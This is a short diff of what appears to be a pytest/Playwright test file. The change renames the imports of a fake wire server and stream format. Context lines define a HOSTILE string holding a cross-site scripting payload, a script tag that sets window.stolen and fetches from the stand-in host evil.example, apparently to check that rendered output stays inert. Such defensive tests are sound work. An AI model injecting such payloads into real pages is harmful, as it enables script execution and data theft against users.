@@ -5,8 +5,8 @@ import json
 import pytest
 from playwright.sync_api import expect
 
-from tests.wire.formats import openai_stream
-from tests.wire.server import Reply, WireServer
+from tests.providers.formats import openai_stream
+from tests.providers.server import Reply, WireServer
 
 # Each would set window.stolen, or ask a server of its own, if anything of it were alive.
 HOSTILE = """Hello <script>window.stolen = 1; fetch("http://evil.example/script")</script>
